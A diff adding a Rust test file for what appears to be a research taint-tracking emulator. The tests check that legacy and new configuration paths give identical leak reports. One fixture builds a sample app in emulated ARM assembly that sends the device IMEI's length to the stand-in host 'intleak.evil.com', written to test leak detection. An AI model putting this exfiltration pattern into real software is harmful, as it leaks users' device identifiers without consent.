@@ -1,0 +1,195 @@
+//! API-redesign equivalence: every legacy construction path
+//! (`NDroidSystem::new`, `quiet()`, `use_reference_engine()`) and its
+//! `SystemConfig` counterpart must produce identical [`RunReport`]s on
+//! the three gallery apps. This is the contract that lets the
+//! deprecated shims eventually disappear without behavior drift.
+
+#![allow(deprecated)] // exercising the legacy paths is the point
+
+use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
+use ndroid_core::{
+    EngineKind, Mode, NDroidSystem, RunReport, SourcePolicyOverride, SystemConfig,
+};
+
+const GALLERY: [(&str, fn() -> App); 3] = [
+    ("qq_phonebook", qq_phonebook::qq_phonebook),
+    ("thumb_spy", thumb_spy::thumb_spy),
+    ("crypto_hider", crypto_hider::crypto_hider),
+];
+
+/// Runs the app's Java entry on an already-configured system (the
+/// legacy paths configure after boot, so they can't use `run_with`).
+fn run_entry(app_entry: &(String, String), sys: &mut NDroidSystem) {
+    sys.run_java(&app_entry.0, &app_entry.1, &[]).expect("entry runs");
+}
+
+#[test]
+fn legacy_new_matches_from_config_across_modes() {
+    for mode in [Mode::Vanilla, Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
+        for (name, build) in GALLERY {
+            let legacy: RunReport = build().run(mode).expect("legacy run").report();
+            let configured: RunReport = build()
+                .run_with(SystemConfig::new(mode))
+                .expect("configured run")
+                .report();
+            assert_eq!(legacy, configured, "{name} under {mode}");
+        }
+    }
+}
+
+#[test]
+fn legacy_quiet_matches_config_quiet_and_verbose() {
+    for (name, build) in GALLERY {
+        // Legacy: boot, then the deprecated quiet() shim.
+        let app = build();
+        let entry = app.entry.clone();
+        let mut sys = app.launch(Mode::NDroid).quiet();
+        run_entry(&entry, &mut sys);
+        let legacy = sys.report();
+
+        let quiet = build()
+            .run_with(SystemConfig::ndroid().quiet(true))
+            .expect("quiet run")
+            .report();
+        assert_eq!(legacy, quiet, "{name}: legacy quiet() vs SystemConfig::quiet");
+
+        // RunReport excludes the trace log, so verbosity cannot change it.
+        let verbose = build()
+            .run_with(SystemConfig::ndroid())
+            .expect("verbose run")
+            .report();
+        assert_eq!(quiet, verbose, "{name}: verbosity leaked into the report");
+    }
+}
+
+#[test]
+fn legacy_reference_engine_matches_config_reference() {
+    for (name, build) in GALLERY {
+        let legacy = build()
+            .run_configured(Mode::NDroid, NDroidSystem::use_reference_engine)
+            .expect("legacy reference run")
+            .report();
+        assert_eq!(legacy.engine, EngineKind::Reference);
+
+        let configured = build()
+            .run_with(SystemConfig::ndroid().reference())
+            .expect("configured reference run")
+            .report();
+        assert_eq!(
+            legacy, configured,
+            "{name}: use_reference_engine() vs SystemConfig::reference()"
+        );
+    }
+}
+
+#[test]
+fn source_policy_override_always_is_report_invariant() {
+    // `Always` inflates the policy map but applies taint effects only
+    // for tainted parameters — externally indistinguishable from the
+    // paper's rule.
+    for (name, build) in GALLERY {
+        let as_paper = build()
+            .run_with(SystemConfig::ndroid())
+            .expect("as-paper run")
+            .report();
+        let always = build()
+            .run_with(
+                SystemConfig::ndroid().source_policies(SourcePolicyOverride::Always),
+            )
+            .expect("always run")
+            .report();
+        assert_eq!(as_paper, always, "{name}: Always changed the report");
+        assert!(as_paper.leaked(), "{name}: gallery app must leak");
+    }
+}
+
+/// An app whose leak is carried *only* by the §V-B source policy: a
+/// tainted **primitive** (the IMEI string's length) crosses the JNI
+/// boundary in a register. Object-typed flows don't isolate the
+/// policy — JNI marshalling hooks also read the DVM-level object
+/// taint — but a primitive's only taint carrier at the boundary is the
+/// policy's shadow-register initialization.
+fn tainted_int_leak_app() -> App {
+    use ndroid_apps::AppBuilder;
+    use ndroid_arm::reg::RegList;
+    use ndroid_arm::Reg;
+    use ndroid_dvm::bytecode::DexInsn;
+    use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
+    use ndroid_libc::libc_addr;
+
+    let mut b = AppBuilder::new("int-leak", "tainted int crosses JNI in a register");
+    let c = b.class("Lapp/IntLeak;");
+    let dest = b.data_cstr("intleak.evil.com");
+    let buf = b.data_buffer(8);
+
+    // void leakInt(int secret): stores the secret and sends the buffer.
+    let entry = b.asm.label();
+    b.asm.bind(entry).unwrap();
+    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
+    b.asm.mov(Reg::R4, Reg::R0); // the secret int
+    b.asm.call_abs(libc_addr("socket"));
+    b.asm.mov(Reg::R5, Reg::R0);
+    b.asm.ldr_const(Reg::R1, dest);
+    b.asm.call_abs(libc_addr("connect"));
+    b.asm.ldr_const(Reg::R1, buf);
+    b.asm.str(Reg::R4, Reg::R1, 0);
+    b.asm.mov(Reg::R0, Reg::R5);
+    b.asm.mov_imm(Reg::R2, 4).unwrap();
+    b.asm.mov_imm(Reg::R3, 0).unwrap();
+    b.asm.call_abs(libc_addr("send"));
+    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
+    let native = b.native_method(c, "leakInt", "VI", true, entry);
+
+    let imei = b
+        .program
+        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
+        .unwrap();
+    let length = b
+        .program
+        .find_method_by_name("Ljava/lang/String;", "length")
+        .unwrap();
+    b.method(
+        c,
+        MethodDef::new(
+            "main",
+            "V",
+            MethodKind::Bytecode(vec![
+                DexInsn::Invoke { kind: InvokeKind::Static, method: imei, args: vec![] },
+                DexInsn::MoveResult { dst: 0 },
+                DexInsn::Invoke { kind: InvokeKind::Static, method: length, args: vec![0] },
+                DexInsn::MoveResult { dst: 0 },
+                DexInsn::Invoke { kind: InvokeKind::Static, method: native, args: vec![0] },
+                DexInsn::ReturnVoid,
+            ]),
+        )
+        .with_registers(1),
+    );
+    b.finish("Lapp/IntLeak;", "main").unwrap()
+}
+
+#[test]
+fn source_policy_override_never_drops_boundary_taint() {
+    // Sanity: under the paper's rule the policy carries the taint and
+    // the flow is detected.
+    let as_paper = tainted_int_leak_app()
+        .run_with(SystemConfig::ndroid())
+        .expect("as-paper run")
+        .report();
+    assert!(as_paper.leaked(), "policy-carried primitive flow must be detected");
+
+    // `Never` discards parameter taints at the Java→native boundary:
+    // the exfiltration still happens (sink events fire) but no leak is
+    // flagged — the under-taint ablation.
+    let report = tainted_int_leak_app()
+        .run_with(SystemConfig::ndroid().source_policies(SourcePolicyOverride::Never))
+        .expect("never run")
+        .report();
+    assert!(
+        !report.leaked(),
+        "without source policies the register-carried flow must go undetected"
+    );
+    assert!(
+        !report.sink_events.is_empty(),
+        "the exfiltration itself still happens"
+    );
+}
